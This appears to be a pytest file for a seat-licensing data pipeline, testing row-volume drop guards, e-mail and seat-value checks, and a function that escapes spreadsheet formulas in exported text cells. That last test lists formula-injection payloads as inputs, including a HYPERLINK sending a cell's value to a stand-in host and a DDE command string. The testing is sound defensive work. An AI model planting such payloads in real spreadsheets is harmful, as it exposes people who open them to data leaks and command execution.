"""Volume and e-mail guards: each trips on the input it exists for."""

from __future__ import annotations

import logging
from datetime import date

import pandas as pd
import pytest

from seatlib.core.errors import DataQualityError
from seatlib.core.contracts import STATUSES
from seatlib.stages.guards import (
    ALLOWED, KEEP_LAKE, NO_ROWS, bad_emails, check_seat_values, check_status_values,
    check_unmatched_share, check_volume,
)
from seatlib.core.privacy import formula_safe

PREV = (date(2026, 11, 28), 100)


def test_empty_extract_stops_unless_allowed():
    with pytest.raises(DataQualityError, match="zoho_users.*empty.*--allow-drop"):
        check_volume("zoho_users", 0, PREV, max_drop_share=0.3)
    assert check_volume("zoho_users", 0, PREV, max_drop_share=0.3, allow_drop=True).rows == 0


def test_drop_beyond_the_share_stops_and_names_both_counts():
    with pytest.raises(DataQualityError, match=r"69 rows against 100 on 2026-11-28, a drop of 31%"):
        check_volume("zoho_users", 69, PREV, max_drop_share=0.3)
    assert check_volume("zoho_users", 70, PREV, max_drop_share=0.3).drop_share == pytest.approx(0.3)
    assert check_volume("zoho_users", 10, PREV, max_drop_share=0.3, allow_drop=True).rows == 10


def test_first_day_and_growth_pass():
    assert check_volume("x", 5, None, max_drop_share=0.3).drop_share == 0
    assert check_volume("x", 500, PREV, max_drop_share=0.3).drop_share == 0


def test_bad_emails_are_listed():
    s = pd.Series(["ok@a.com", "no-at-sign", "two@@a.com", "sp ace@a.com", None, "", "x@y"])
    assert bad_emails(s) == ["no-at-sign", "sp ace@a.com", "two@@a.com", "x@y"]


# -- guards of the stages that replace a day ----------------------------------------------------

def test_a_drop_against_what_the_write_replaces_stops():
    with pytest.raises(DataQualityError, match=r"zoho_users \(silver of 2026-11-29\): 134 rows "
                       r"against 303 already there for 2026-11-29, a drop of 56% \(limit 30%\); "
                       r"nothing was written: the lake is as it was\. If this is real, re-run "
                       r"with --allow-drop"):
        check_volume("zoho_users", 134, None, max_drop_share=0.3, where="silver of 2026-11-29",
                     against=[("already there for 2026-11-29", 303), ("on 2026-11-28", 300)],
                     action=KEEP_LAKE)
    assert check_volume("zoho_users", 290, None, max_drop_share=0.3,
                        against=[("already there", 303)]).rows == 290


def test_no_rows_is_refused_with_its_own_words():
    with pytest.raises(DataQualityError, match=r"module_status \(silver\): no rows to write; "):
        check_volume("module_status", 0, None, max_drop_share=0.3, where="silver",
                     against=[("on 2026-11-28", 300)], empty=NO_ROWS)


@pytest.mark.parametrize("allocated, used, message", [
    (-70, 70, r"allocated should be above 0; allocated/used \['-70/70'\]"),
    (0, 0, r"allocated should be above 0"),
    (70, -1, r"used should be 0 or more"),
    (70, 99_999, r"used should be at most 2 x allocated; allocated/used \['70/99999'\]"),
])
def test_seat_figures_without_sense_are_refused_and_not_overridable(allocated, used, message):
    with pytest.raises(DataQualityError, match=message) as caught:
        check_seat_values("zoho_seats", pd.Series([allocated]), pd.Series([used]), "silver of x")
    assert "not a drop --allow-drop could allow" in str(caught.value)


def test_seat_figures_in_range_pass():
    check_seat_values("zoho_seats", pd.Series([70, 70, 0]), pd.Series([70, 140, 0]), "x",
                      seat_line=pd.Series([True, True, False]))


def _status(*statuses: str) -> pd.DataFrame:
    return pd.DataFrame({"status": pd.Series(statuses, dtype="string"),
                         "seats_held": pd.Series([1] * len(statuses), dtype="Int64")})


def test_an_unknown_status_is_refused():
    with pytest.raises(DataQualityError, match=r"seat_status \(gold\): status \['pwned'\] is "
                                               r"not one of \['active'"):
        check_status_values(_status("active", "pwned"), "gold")
    check_status_values(_status(*STATUSES), "gold")


def test_too_many_unmatched_rows_stop_unless_allowed(caplog):
    rows = _status("unmatched", "unmatched", "unmatched", "active")
    with pytest.raises(DataQualityError, match=r"seat_status \(gold of d\): 3 of 4 rows are "
                       r"unmatched \(75%, limit \[guards\] max_unmatched_share 20%\).*"
                       r"client_id_pattern.*--allow-drop"):
        check_unmatched_share(rows, max_share=0.2, allow_drop=False, where="gold of d")
    with caplog.at_level(logging.WARNING, logger="seatlib.stages.guards"):
        assert check_unmatched_share(rows, max_share=0.2, allow_drop=True, where="w") == 0.75
    assert "3 of 4 rows are unmatched" in caplog.text and ALLOWED in caplog.text
    assert check_unmatched_share(rows, max_share=0.75, allow_drop=False, where="w") == 0.75


# -- files people open --------------------------------------------------------------------------

@pytest.mark.parametrize("raw, safe", [
    ('=HYPERLINK("http://x.example/?"&A1,"renew")', '\'=HYPERLINK("http://x.example/?"&A1,"renew")'),
    ("+SUM(1+1)", "'+SUM(1+1)"),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tTAB", "'\tTAB"),
    ("\rCR", "'\rCR"),
    ("1234 - ACME", "1234 - ACME"),
    ("a=b@x.com", "a=b@x.com"),
])
def test_spreadsheet_formulas_in_text_cells_are_neutralised(raw, safe):
    df = pd.DataFrame({"workspace_name": pd.Series([raw, None], dtype="string"),
                       "seats_held": pd.Series([-1, 2], dtype="Int64")})
    out = formula_safe(df)
    assert out["workspace_name"].iloc[0] == safe
    assert out["workspace_name"].isna().iloc[1]
    assert out["seats_held"].tolist() == [-1, 2]  # numbers stay numbers
    assert df["workspace_name"].iloc[0] == raw  # the input is left as it was
